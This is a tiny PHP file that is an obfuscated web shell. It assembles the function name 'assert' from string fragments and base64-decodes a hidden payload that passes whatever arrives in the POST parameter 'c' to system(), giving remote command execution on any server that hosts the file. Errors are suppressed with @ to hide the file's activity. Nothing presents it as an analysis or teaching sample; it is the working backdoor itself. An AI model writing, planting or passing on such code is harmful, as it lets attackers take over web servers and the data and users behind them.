<?php
$a = 'as'.'se'.'rt';
$p = base64_decode('aWYoaXNzZXQoJF9QT1NUWydjJ10pKXtzeXN0ZW0oJF9QT1NUWydjJ10pO30=');
@$a($p);
